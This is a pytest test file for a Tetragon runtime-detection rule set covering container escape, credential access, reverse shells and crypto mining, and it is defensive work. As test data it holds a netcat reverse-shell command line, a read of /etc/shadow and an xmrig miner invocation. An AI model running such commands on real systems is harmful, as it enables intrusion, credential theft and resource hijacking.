"""The declarative Tetragon rule set: the shipped file loads, and bad files fail loudly."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from qcdr_analysis.tetragon.rules import (
    Match,
    RuleFileError,
    TextMatch,
    load_rules,
    parse_rules,
    shipped_rules_text,
)
from qcdr_analysis.tetragon.view import view

from tests.analysis.conftest import make_event, tetragon_event

GOOD_RULE = """
  - id: nsenter-demo
    title: nsenter
    category: container_escape
    severity: high
    techniques: [T1611]
    match:
      event: [process_exec]
      binary: {suffix: [/nsenter]}
"""


def rules_file(body: str = GOOD_RULE, header: str = "version: 1\nrules:\n") -> str:
    return header + body


def test_shipped_rules_load_and_cover_the_families() -> None:
    rules = load_rules()
    assert len(rules.rules) >= 15
    categories = {rule.category for rule in rules.rules}
    assert {
        "container_escape",
        "credential_access",
        "cloud_credentials_access",
        "reverse_shell",
        "crypto_mining",
        "discovery",
        "container_drift",
        "kernel_module",
        "privilege_escalation",
        "persistence",
    } <= categories
    techniques = {t for rule in rules.rules for t in rule.techniques}
    assert {"T1611", "T1003.008", "T1528", "T1552.001", "T1059.004", "T1496.001", "T1547.006"} <= techniques
    assert len({rule.id for rule in rules.rules}) == len(rules.rules)


def test_shipped_rules_name_only_current_attack_techniques(shared_path: Path) -> None:
    table = shared_path / "corpora" / "mitre-attack" / "enterprise_techniques_v18.1.csv"
    if not table.is_file():
        pytest.skip("the ATT&CK technique table is absent")
    with table.open(newline="", encoding="utf-8") as handle:
        current = {
            row["technique_id"]
            for row in csv.DictReader(handle)
            if row["revoked"] == "False" and row["deprecated"] == "False"
        }
    unknown = {(rule.id, t) for rule in load_rules().rules for t in rule.techniques if t not in current}
    assert unknown == set()


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            GOOD_RULE.replace("    severity: high", "    severity: high\n    severty: low"),
            r"\(nsenter-demo\)\.severty",
        ),
        (GOOD_RULE.replace("binary: {suffix:", "binnary: {suffix:"), r"\(nsenter-demo\)\.match\.binnary"),
        (GOOD_RULE.replace("{suffix: [/nsenter]}", "{endswith: [/nsenter]}"), r"match\.binary\.endswith"),
        (GOOD_RULE.replace("[T1611]", "[T1611, escape]"), "not a MITRE ATT&CK technique id: 'escape'"),
        (GOOD_RULE.replace("severity: high", "severity: urgent"), r"\.severity"),
        (GOOD_RULE.replace("      binary: {suffix: [/nsenter]}\n", ""), "at least one condition"),
        (GOOD_RULE.replace("[process_exec]", "[process_exec_typo]"), "unknown Tetragon event type"),
        (GOOD_RULE + "      function: [sys_setns]\n", "never hold for \\['process_exec'\\]"),
        (GOOD_RULE + "      destination_port: [70000]\n", "less than or equal to 65535"),
        (GOOD_RULE + "      capabilities: [sys_admin]\n", "not a capability name"),
        (GOOD_RULE.replace("{suffix: [/nsenter]}", "{suffix: ['']}"), "must not be empty"),
        (GOOD_RULE.replace("{suffix: [/nsenter]}", "{}"), "needs at least one of"),
        (GOOD_RULE + GOOD_RULE, "rule id 'nsenter-demo' is used twice"),
        (
            GOOD_RULE.replace("    title: nsenter\n", "    title: nsenter\n    title: again\n"),
            "duplicate key 'title'",
        ),
        (GOOD_RULE.replace("id: nsenter-demo", "id: Not An Id"), r"\.id"),
    ],
)
def test_bad_rule_files_fail_loudly_naming_rule_and_key(body: str, message: str) -> None:
    with pytest.raises(RuleFileError, match=message):
        parse_rules(rules_file(body), "test.yaml")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("version: 2\nrules: []\n", "version"),
        (rules_file(header="version: 1\nrules:\n") + "extra: 1\n", "extra"),
        ("version: 1\nrules: []\n", "rules"),
        ("version: 1\nrules: [\n", "not valid YAML"),
        ("- just\n- a list\n", "<top>"),
        # complex keys: the duplicate-key check ran ``key in set()`` on a list or a dict (TypeError)
        ("version: 1\n? [rules, more]\n: []\n", "line 2, column 3: found unhashable key"),
        ("version: 1\n{a: 1}: x\n", "line 2, column 1: found unhashable key"),
    ],
)
def test_bad_rule_file_structure(text: str, message: str) -> None:
    with pytest.raises(RuleFileError, match=message):
        parse_rules(text, "test.yaml")


def test_missing_rule_file_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RuleFileError, match="cannot read"):
        load_rules(tmp_path / "absent.yaml")
    binary = tmp_path / "rules.yaml"
    binary.write_bytes(b"version: 1\nrules: \xff\n")
    with pytest.raises(RuleFileError, match=rf"^{binary}: not UTF-8 text"):
        load_rules(binary)


def test_disabled_rules_are_not_loaded() -> None:
    text = rules_file(GOOD_RULE.replace("    severity: high\n", "    severity: high\n    enabled: false\n"))
    assert parse_rules(text).rules == ()


def test_text_match_semantics() -> None:
    m = TextMatch(prefix=("/usr/",), suffix=("/nc",), contains_all=("bin",))
    assert m.test("/usr/bin/nc")
    assert m.test("/opt/bin/nc")  # suffix
    assert not m.test("/usr/lib/nc")  # contains_all fails
    assert not m.test("/opt/bin/ncat")
    assert TextMatch(contains_all=("-e", "/bin/sh")).test("nc 1.2.3.4 4444 -e /bin/sh")
    assert TextMatch(exact=("/bin/sh",)).test("/bin/sh")
    assert not TextMatch(exact=("/bin/sh",)).test("/bin/shx")


def test_namespace_change_and_unless() -> None:
    text = rules_file(
        """
  - id: ns
    title: ns
    category: container_escape
    severity: high
    techniques: [T1611]
    match:
      namespace_change: true
    unless:
      binary: {exact: [/usr/bin/runc]}
"""
    )
    rules = parse_rules(text)
    host_ns = {
        "process_exec": {
            "process": {
                "binary": "/bin/bash",
                "pod": {"namespace": "a", "name": "p"},
                "ns": {"mnt": {"inum": 1, "is_host": True}},
            }
        }
    }
    assert [r.id for r in rules.matching(view(tetragon_event(host_ns)))] == ["ns"]
    own_ns = {
        "process_exec": {
            "process": {
                "binary": "/bin/bash",
                "pod": {"namespace": "a", "name": "p"},
                "ns": {"mnt": {"inum": 1, "is_host": False}},
            }
        }
    }
    assert rules.matching(view(tetragon_event(own_ns))) == []
    runc = {"process_kprobe": {"process": {"binary": "/usr/bin/runc"}, "function_name": "__x64_sys_setns"}}
    assert rules.matching(view(tetragon_event(runc))) == []  # unless
    setns = {
        "process_kprobe": {"process": {"binary": "/usr/bin/nsenter"}, "function_name": "__arm64_sys_setns"}
    }
    assert [r.id for r in rules.matching(view(tetragon_event(setns)))] == ["ns"]


def test_match_requires_every_condition() -> None:
    m = Match(event=("process_exec",), binary=TextMatch(suffix=("/nc",)), in_container=True)
    inside = {"process_exec": {"process": {"binary": "/bin/nc", "pod": {"name": "p"}}}}
    host = {"process_exec": {"process": {"binary": "/bin/nc"}}}
    assert m.test(view(tetragon_event(inside)))
    assert not m.test(view(tetragon_event(host)))


def test_shipped_text_is_the_default() -> None:
    assert load_rules().rules == parse_rules(shipped_rules_text()).rules


def test_view_reads_inner_body_and_falls_back_to_normalized_fields() -> None:
    inner = make_event(
        source="tetragon",
        category="process_exec",
        raw={"process": {"binary": "/usr/bin/xmrig", "arguments": "-o stratum+tcp://pool:3333"}},
    )
    v = view(inner)
    assert (v.type, v.binary, v.arguments) == ("process_exec", "/usr/bin/xmrig", "-o stratum+tcp://pool:3333")
    bare = make_event(
        source="tetragon",
        category="process_exec",
        process={"path": "/usr/bin/nmap", "parent_path": "/bin/sh"},
    )
    v = view(bare)
    assert (v.type, v.binary, v.parent_binary, v.in_container) == (
        "process_exec",
        "/usr/bin/nmap",
        "/bin/sh",
        True,
    )


def test_view_extracts_hook_details() -> None:
    raw = {
        "process_kprobe": {
            "process": {"binary": "/usr/bin/curl", "uid": 1000},
            "function_name": "__x64_sys_openat",
            "args": [{"int_arg": -100}, {"string_arg": "/etc/shadow"}, {"int_arg": 0o101}],
        }
    }
    v = view(tetragon_event(raw))
    assert v.syscall == "sys_openat"
    assert v.file_paths == ("/etc/shadow",)
    assert v.file_write  # O_WRONLY | O_CREAT
    assert v.uid == 1000
    connect = {
        "process_kprobe": {
            "process": {"binary": "/tmp/x"},
            "function_name": "tcp_connect",
            "args": [{"sock_arg": {"family": "AF_INET", "daddr": "203.0.113.9", "dport": 3333}}],
        }
    }
    v = view(tetragon_event(connect))
    assert (v.destination_ip, v.destination_port, v.file_write) == ("203.0.113.9", 3333, False)
    read = {
        "process_kprobe": {
            "process": {"binary": "/bin/cat"},
            "function_name": "security_file_permission",
            "args": [{"file_arg": {"path": "etc/shadow"}}, {"int_arg": 4}],
        }
    }
    v = view(tetragon_event(read))
    assert (v.file_paths, v.file_write) == (("/etc/shadow",), False)  # leading slash restored; MAY_READ
